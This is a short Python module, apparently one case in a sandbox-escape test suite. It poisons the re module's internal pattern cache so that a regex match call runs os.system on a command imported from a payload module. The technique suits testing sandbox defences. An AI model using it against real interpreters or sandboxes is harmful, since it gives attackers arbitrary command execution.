"""A C function matches, in what re keeps of a pattern."""
CATEGORY = "callable"
REACH = "run"

import os
import re
import types

from . import payload

TEXT = payload.COMMAND


def attack():
    pattern = types.SimpleNamespace(match=os.system)
    re._cache[str, "[a-z]+", 0] = re._cache2[str, "[a-z]+", 0] = pattern
